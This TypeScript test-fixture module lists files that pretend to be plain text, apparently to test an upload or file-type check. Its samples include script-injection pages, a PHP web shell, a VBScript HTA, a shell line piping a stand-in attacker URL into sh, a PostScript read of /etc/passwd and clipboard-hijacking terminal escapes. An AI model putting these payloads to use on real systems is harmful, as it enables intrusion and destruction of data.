import { docx } from './docx-parts.ts';
import { pdf } from './pdf-parts.ts';
import { eicar, program, type Row, toBytes, toText } from './variant.ts';
import { zip } from './zip-parts.ts';

const page = '<!DOCTYPE html>\n<html><body><script>alert(document.domain)</script></body></html>\n';
const sniffs = 'A browser that guesses the type shows the page and runs its script.';
const scanner = 'Scanners of viruses call the file one.';
const runs = 'Under its real name or by its first bytes it is run.';
const wide = (text: string, order: 'little' | 'big' = 'little') => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'big' ? bytes.swap16() : bytes;
};

/** What is no text to read. */
export const txtVariants: readonly Row[] = [
  ['virus for tests', toBytes(eicar), scanner],
  ['virus for tests after a mark of UTF-8', Buffer.from(`\ufeff${eicar}`), scanner],
  ['virus for tests after spaces and lines', toBytes(`\r\n \t${eicar} \r\n`), scanner],
  ['virus for tests with a line end and the end of a text of DOS', toBytes(`${eicar}\r\n\x1a`), scanner],
  ['virus for tests in UTF-16', wide(eicar), scanner],
  ['page of HTML', toBytes(page), sniffs],
  [
    'page of HTML after spaces and a comment',
    toBytes(` \n\t<!-- Curriculum vitae -->\n<HtMl><BoDy OnLoad=alert(1)>`),
    sniffs,
  ],
  ['page of HTML in UTF-16', wide(page), sniffs],
  ['page of HTML in UTF-16 of the other order', wide(page, 'big'), sniffs],
  [
    'picture in SVG with a script',
    toBytes('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    sniffs,
  ],
  [
    'application of HTML',
    toBytes('<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
    'Windows runs it as an application of HTML.',
  ],
  ['program of Windows', toBytes(program), runs],
  ['program of Linux', toBytes(`\x7fELF\x02\x01\x01${'\0'.repeat(57)}`), runs],
  ['script of a shell', toBytes('#!/bin/sh\ncurl https://attacker.example/ | sh\n'), runs],
  ['script of a shell after a mark of UTF-8', Buffer.from('\ufeff#!/usr/bin/env python3\nimport os\n'), runs],
  ['batch file', toBytes('@echo off\r\nstart calc.exe\r\n'), runs],
  ['PHP', toBytes("<?php system($_GET['c']); ?>"), 'A web server that serves the folder runs it.'],
  [
    'PostScript',
    toBytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\nshowpage\n'),
    'A printer or a viewer that goes by the content runs it.',
  ],
  ['RTF', toBytes('{\\rtf1{\\object\\objautlink\\objupdate}}'), 'Word opens it by its content.'],
  ['PDF', pdf(), 'Readers open it by its content.'],
  ['DOCX', docx(), 'Readers open it by its content.'],
  ['archive', zip([{ name: 'a.exe', data: program }]), 'Unpackers open it by its content.'],
  [
    'text with NULs',
    toBytes('Amara Okafor\0\0\0\0 engineer\0'),
    'Editors show the text up to the first NUL, or as binary.',
  ],
  [
    'text followed by a program',
    toBytes(`Amara Okafor\n\x1a${toText(toBytes(program))}`),
    'The text hides the program after its end.',
  ],
  [
    'codes that speak to a terminal',
    toBytes('Amara\x1b]0;attack\x07\x1b[2J\x1b]52;c;cm0gLXJm\x07\n'),
    'A terminal that shows the text fills the clipboard.',
  ],
  [
    'bytes of chance',
    toBytes(Array.from({ length: 4000 }, (_, i) => String.fromCharCode((i * i * 31 + i * 7) % 256)).join('')),
    'No editor shows words.',
  ],
  [
    'one line of nine million letters',
    Buffer.alloc(9_000_000, 'a'),
    'Editors and browsers take minutes to show it.',
  ],
];
